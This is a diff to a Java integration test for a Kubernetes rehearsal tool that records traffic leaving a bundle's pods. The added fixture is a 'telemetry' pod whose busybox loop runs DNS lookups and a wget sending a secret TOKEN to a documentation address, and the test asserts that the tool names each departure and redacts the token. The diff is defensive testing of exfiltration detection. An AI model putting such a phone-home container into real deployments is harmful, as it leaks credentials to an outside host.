@@ -3,6 +3,7 @@ package dev.roadcase.tests.cluster;
 import static org.assertj.core.api.Assertions.assertThat;
 
 import com.fasterxml.jackson.databind.JsonNode;
+import dev.roadcase.tests.parts.Campaign;
 import dev.roadcase.tests.parts.Launcher;
 import dev.roadcase.tests.parts.Ran;
 import dev.roadcase.tests.parts.Setting;
@@ -12,15 +13,17 @@ import java.nio.file.Path;
 import java.time.Duration;
 import java.util.List;
 import java.util.concurrent.TimeUnit;
+import java.util.stream.StreamSupport;
 import org.junit.jupiter.api.AfterAll;
 import org.junit.jupiter.api.BeforeAll;
 import org.junit.jupiter.api.Order;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.TestInstance;
+import org.junit.jupiter.api.condition.EnabledIf;
 import org.junit.jupiter.api.io.TempDir;
 import org.junit.jupiter.api.parallel.Isolated;
 
-/** A show is tried out from its bundle alone: hello. */
+/** A show is tried out from its bundle alone: hello, with a pod that would like to phone home. */
 @Order(Integer.MAX_VALUE - 4)
 @Isolated("the machines need both processors, and the network of the six")
 @TestInstance(TestInstance.Lifecycle.PER_CLASS)
@@ -32,6 +35,39 @@ class RehearseJourney {
               machines: [containers]
               nodes: {count: 2}
               etcd: {version: v%s}
+            """;
+
+    private static final String SECRET_PARAMETER = """
+            parameters:
+              TOKEN: {sensitive: true, description: known to the vendor}
+            """;
+
+    /** It asks for a name, sends something by UDP, and connects: to addresses of TEST-NET-2 (RFC 5737). */
+    private static final String TELEMETRY = """
+            ---
+            apiVersion: v1
+            kind: ReplicationController
+            metadata: {name: telemetry}
+            spec:
+              replicas: 1
+              selector: {app: telemetry}
+              template:
+                metadata: {labels: {app: telemetry}}
+                spec:
+                  automountServiceAccountToken: false
+                  terminationGracePeriodSeconds: 1
+                  containers:
+                    - name: telemetry
+                      image: hello/web:1.0.0
+                      command: [/bin/busybox, sh, -c]
+                      args:
+                        - |
+                          while :; do
+                            /bin/busybox nslookup telemetry.example.com
+                            /bin/busybox nslookup other.example.com 198.51.100.7
+                            /bin/busybox wget -q -O /dev/null "http://198.51.100.8:9443/?token=${TOKEN}"
+                            /bin/busybox sleep 3
+                          done
             """;
 
     @TempDir
@@ -46,26 +82,30 @@ class RehearseJourney {
         Path settings = Files.createDirectories(folder.resolve("settings/roadcase"));
         Files.writeString(settings.resolve("config.yaml"), TestHost.settings());
         launcher = Launcher.in(folder).with("DOCKER_HOST", "unix://" + Setting.docker());
-        Written.prepare("hello", folder, RehearseJourney::withCluster, List.of());
+        Written.prepare("hello", folder, RehearseJourney::withTelemetry, List.of());
     }
 
-    private static void withCluster(Path demo) {
+    private static void withTelemetry(Path demo) {
         String cluster = CLUSTER.formatted(Made.kubernetes().version(), Kubernetes.ETCD);
-        Written.rewrite(demo.resolve("demo.yaml"), text -> text + cluster);
+        Written.rewrite(demo.resolve("demo.yaml"), text -> text.replace("parameters:\n", SECRET_PARAMETER) + cluster);
+        Written.rewrite(demo.resolve("manifests/hello.yaml"), text -> text + TELEMETRY);
     }
 
     /** Also where a test has failed. */
     @AfterAll
     void remove() {
-        for (JsonNode show : launcher.run("ls", "--json").json().path("shows")) {
-            launcher.run("down", "--yes", show.path("folder").asText());
+        try {
+            for (JsonNode show : launcher.run("ls", "--json").json().path("shows")) {
+                launcher.run("down", "--yes", show.path("folder").asText());
+            }
+        } finally {
+            bridges.close();
         }
-        bridges.close();
     }
 
     @Test
-    void aShowIsTriedOutFromItsBundleAlone() {
-        Ran rehearsed = launcher.run("rehearse", "hello.bundle", "--json");
+    void aShowIsTriedOutAndWhateverTriedToLeaveIsNamed() throws IOException {
+        Ran rehearsed = launcher.run("rehearse", "hello.bundle", "--set", "TOKEN=open-sesame", "--json");
         print(rehearsed);
         JsonNode document = rehearsed.succeeded().json();
         assertThat(document.path("passed").asBoolean()).isTrue();
@@ -81,6 +121,18 @@ class RehearseJourney {
                         "rewind",
                         "loss of node-2",
                         "down");
+        assertThat(document.path("blind")).isEmpty();
+        JsonNode left = document.path("departures");
+        assertThat(left).allSatisfy(one -> {
+            assertThat(one.path("place").asText()).startsWith("default/telemetry-");
+            assertThat(one.path("packets").asInt()).isPositive();
+        });
+        assertThat(words(left))
+                .contains(
+                        "udp 192.0.2.53:53 telemetry.example.com: /bin/busybox nslookup telemetry.example.com",
+                        "udp 198.51.100.7:53 other.example.com: /bin/busybox nslookup other.example.com 198.51.100.7",
+                        "tcp 198.51.100.8:9443 : /bin/busybox wget -q -O /dev/null"
+                                + " http://198.51.100.8:9443/?token=[secret]");
         requireNothingIsLeft();
     }
 
@@ -93,9 +145,17 @@ class RehearseJourney {
                 .forEach(System.out::println);
     }
 
+    private static List<String> words(JsonNode departures) {
+        return StreamSupport.stream(departures.spliterator(), false)
+                .map(one -> one.path("protocol").asText() + " "
+                        + one.path("address").asText() + ":" + one.path("port").asInt() + " "
+                        + one.path("name").asText() + ": " + one.path("command").asText())
+                .toList();
+    }
+
     @Test
     void whoeverStopsItFindsNothingLeft() throws IOException, InterruptedException {
-        Process stopped = launcher.start("rehearse", "hello.bundle");
+        Process stopped = launcher.start("rehearse", "hello.bundle", "--set", "TOKEN=open-sesame");
         Await.until(
                 "machines run",
                 Duration.ofMinutes(2),
@@ -109,6 +169,24 @@ class RehearseJourney {
                 .as(said)
                 .isEmpty();
         requireNothingIsLeft();
+    }
+
+    /** {@code -Droadcase.campaign=full}: it takes longer than all the rest here. */
+    @Test
+    @EnabledIf("isFullCampaign")
+    void theDemonstratorIsTriedOutWithItsMachineThatFails(@TempDir Path place) throws IOException {
+        Path bundle = Demonstrator.forContainers(place);
+        Ran rehearsed =
+                launcher.run("rehearse", bundle.toString(), "--set", "WORKLOADS=replicationcontrollers", "--json");
+        print(rehearsed);
+        JsonNode document = rehearsed.succeeded().json();
+        assertThat(document.path("acts").findValuesAsText("name"))
+                .contains("step machine-off", "undo machine-off", "rewind", "down");
+        assertThat(document.path("departures")).isEmpty();
+    }
+
+    static boolean isFullCampaign() {
+        return Campaign.isFull();
     }
 
     private void requireNothingIsLeft() {
